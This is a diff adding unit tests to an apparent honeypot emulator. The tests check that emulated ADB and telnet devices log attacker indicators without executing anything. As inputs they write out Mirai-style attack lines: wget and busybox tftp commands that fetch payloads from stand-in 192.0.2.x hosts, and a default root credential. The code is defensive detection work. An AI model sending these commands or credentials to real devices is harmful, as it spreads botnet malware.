@@ -3,6 +3,7 @@
 #include <rapidjson/document.h>
 
 #include <string>
+#include <vector>
 
 #include "converse/emulation.hpp"
 #include "converse/emulator.hpp"
@@ -284,4 +285,167 @@ TEST_CASE("--emulate names protocols and ports, and refuses what it cannot do",
              Catch::Contains("port 8545 is given to both ethereum and http"));
   CHECK_THAT(plan_emulation("http", {"http=80x"}, plan), Catch::Contains("'80x' is not a port"));
   CHECK_THAT(plan_emulation("http", {"8080"}, plan), Catch::Contains("is not PROTOCOL=PORTS"));
+}
+
+namespace {
+
+/** A conversation of one stateful protocol: its state block, and each request's exchange. */
+struct stateful {
+  emulation_plan plan = test_plan();
+  emulated_protocol protocol;
+  std::vector<uint8_t> state = std::vector<uint8_t>(max_state_bytes, 0);
+  uint32_t requests = 0;
+
+  explicit stateful(emulated_protocol p) : protocol(p) {}
+
+  exchange ask(const std::string& bytes) {
+    emulation_context context{&plan, t0, 42, requests++, state.data()};
+    std::string answer(max_answer_data, '\0');
+    exchange x;
+    x.turn = emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(bytes.data()),
+                             bytes.size(), reinterpret_cast<uint8_t*>(answer.data()));
+    x.answer = answer.substr(0, x.turn.answer_length);
+    return x;
+  }
+};
+
+void put_le32(std::string& s, uint32_t v) {
+  for (int i = 0; i < 4; ++i) {
+    s += static_cast<char>(v >> (8 * i));
+  }
+}
+
+uint32_t le32(const std::string& s, size_t at) {
+  uint32_t v = 0;
+  for (int i = 3; i >= 0; --i) {
+    v = v << 8 | static_cast<uint8_t>(s[at + i]);
+  }
+  return v;
+}
+
+/** An ADB message as adb's protocol.txt lays it out. */
+std::string adb_message(const char* command, uint32_t arg0, uint32_t arg1,
+                        const std::string& data) {
+  std::string m;
+  const uint32_t c = le32(std::string(command, 4), 0);
+  put_le32(m, c);
+  put_le32(m, arg0);
+  put_le32(m, arg1);
+  put_le32(m, static_cast<uint32_t>(data.size()));
+  uint32_t sum = 0;
+  for (char b : data) {
+    sum += static_cast<uint8_t>(b);
+  }
+  put_le32(m, sum);
+  put_le32(m, c ^ 0xFFFFFFFFu);
+  return m + data;
+}
+
+/** The commands of the messages in an answer, in order. */
+std::vector<std::string> adb_commands(const std::string& answer) {
+  std::vector<std::string> out;
+  for (size_t at = 0; at + 24 <= answer.size(); at += 24 + le32(answer, at + 12)) {
+    out.push_back(answer.substr(at, 4));
+  }
+  return out;
+}
+
+std::string sync_request(const char* id, const std::string& body) {
+  std::string r(id, 4);
+  put_le32(r, static_cast<uint32_t>(body.size()));
+  return r + body;
+}
+
+}  // namespace
+
+TEST_CASE("the ADB device connects, runs nothing and hashes what is pushed", "[emulation]") {
+  stateful adb(emulated_protocol::adb);
+  exchange x = adb.ask(adb_message("CNXN", 0x01000001, 256 * 1024, "host::features=cmd"));
+  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"CNXN"});
+  CHECK(le32(x.answer, 8) == 4096);  // the device's message size
+  CHECK_THAT(x.answer, Catch::Contains("device::ro.product.name="));
+  CHECK(x.turn.steps == step_bit(emulated_step::adb_connect));
+
+  // A shell command: OKAY and CLSE, nothing run; the command and its URL kept.
+  const std::string command = "cd /data/local/tmp;  wget http://192.0.2.66/x.sh";
+  x = adb.ask(adb_message("OPEN", 7, 0, "shell:" + command + std::string(1, '\0')));
+  CHECK(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "CLSE"});
+  CHECK(le32(x.answer, 8) == 7);  // to the client's stream
+  CHECK(x.turn.steps == step_bit(emulated_step::adb_shell));
+  REQUIRE(x.turn.indicator_count == 2);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::shell_command);
+  CHECK(x.turn.indicators[0].value() == "cd /data/local/tmp; wget http://192.0.2.66/x.sh");
+  CHECK(x.turn.indicators[1].value() == "http://192.0.2.66/x.sh");
+
+  // A push: the sync service, STAT of the folder, then SEND, DATA in two writes, DONE.
+  x = adb.ask(adb_message("OPEN", 9, 0, std::string("sync:") + '\0'));
+  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY"});
+  const uint32_t sync = le32(x.answer, 4);
+  x = adb.ask(adb_message("WRTE", 9, sync, sync_request("STAT", "/data/local/tmp")));
+  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "WRTE"});
+  const std::string stat = x.answer.substr(24 + 24);  // after OKAY and WRTE's header
+  CHECK(stat.substr(0, 4) == "STAT");
+  CHECK(le32(stat, 4) == 040771);  // a folder
+  const std::string file = "#!/bin/sh\necho mined\n";  // sha256 below, from sha256sum
+  std::string push = sync_request("SEND", "/data/local/tmp/x.sh,33261") +
+                     sync_request("DATA", file.substr(0, 10));
+  x = adb.ask(adb_message("WRTE", 9, sync, push.substr(0, 30)));
+  CHECK(adb_commands(x.answer) == std::vector<std::string>{"OKAY"});
+  std::string rest = push.substr(30) + sync_request("DATA", file.substr(10)) + "DONE";
+  put_le32(rest, 1700000000);
+  x = adb.ask(adb_message("WRTE", 9, sync, rest));
+  REQUIRE(adb_commands(x.answer) == std::vector<std::string>{"OKAY", "WRTE"});
+  CHECK(x.answer.substr(24 + 24, 4) == "OKAY");
+  CHECK(x.turn.steps == step_bit(emulated_step::adb_push));
+  REQUIRE(x.turn.indicator_count == 2);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::file_sha256);
+  CHECK(x.turn.indicators[0].value() ==
+        "06a0730e64560279381ecabcb316c481d48d0095121f8d0f9095506a9bed2ec5");
+  CHECK(x.turn.indicators[1].value() == "/data/local/tmp/x.sh 21 bytes");
+
+  // Not ADB: closed, counted.
+  x = adb.ask(std::string(24, 'A'));
+  CHECK(x.turn.faulty);
+  CHECK(x.turn.fault == conversation_counter::emulation_malformed_adb);
+  CHECK(x.turn.close);
+  // A message still arriving waits.
+  const std::string whole = adb_message("OPEN", 11, 0, "shell:id");
+  CHECK(adb.ask(whole.substr(0, 30)).turn.consumed == 0);
+}
+
+TEST_CASE("the telnet device prompts, logs in and takes commands without echoing them",
+          "[emulation]") {
+  stateful telnet(emulated_protocol::telnet);
+  emulation_context context{&telnet.plan, t0, 42, 0, telnet.state.data()};
+  std::string greeting(max_answer_data, '\0');
+  const emulation_turn hello = greet(emulated_protocol::telnet, context,
+                                     reinterpret_cast<uint8_t*>(greeting.data()));
+  CHECK(greeting.substr(0, hello.answer_length) == "\r\nlogin: ");
+  // Mirai's option answers first, then the user name.
+  exchange x = telnet.ask("\xff\xfd\x01\xff\xfb\x1f");
+  CHECK(x.turn.consumed == 6);
+  CHECK(x.answer.empty());
+  x = telnet.ask("root\r\n");
+  CHECK(x.answer == "Password: ");
+  x = telnet.ask("xc3511\r\0");
+  CHECK_THAT(x.answer, Catch::EndsWith("# "));
+  CHECK(x.turn.steps == step_bit(emulated_step::telnet_login));
+  REQUIRE(x.turn.indicator_count == 1);
+  CHECK(x.turn.indicators[0].kind == indicator_kind::credential);
+  CHECK(x.turn.indicators[0].value() == "root:xc3511");
+  x = telnet.ask("enable\r\n");
+  CHECK(x.answer == "# ");
+  CHECK(x.turn.steps == step_bit(emulated_step::telnet_shell));
+  x = telnet.ask("/bin/busybox MIRAI\r\n");
+  CHECK(x.answer.find("MIRAI") == std::string::npos);  // never said back
+  x = telnet.ask("cd /tmp || cd /var/run; /bin/busybox tftp -g -l dvrHelper -r mips 192.0.2.7\n");
+  CHECK(x.turn.steps ==
+        (step_bit(emulated_step::telnet_shell) | step_bit(emulated_step::telnet_download)));
+  REQUIRE(x.turn.indicator_count == 2);
+  CHECK(x.turn.indicators[1].kind == indicator_kind::url);
+  CHECK(x.turn.indicators[1].value() == "tftp://192.0.2.7/mips");
+  // A line still arriving waits; "exit" closes.
+  CHECK(telnet.ask("wget http://192.0.2.7/").turn.consumed == 0);
+  x = telnet.ask("exit\r\n");
+  CHECK(x.turn.close);
 }
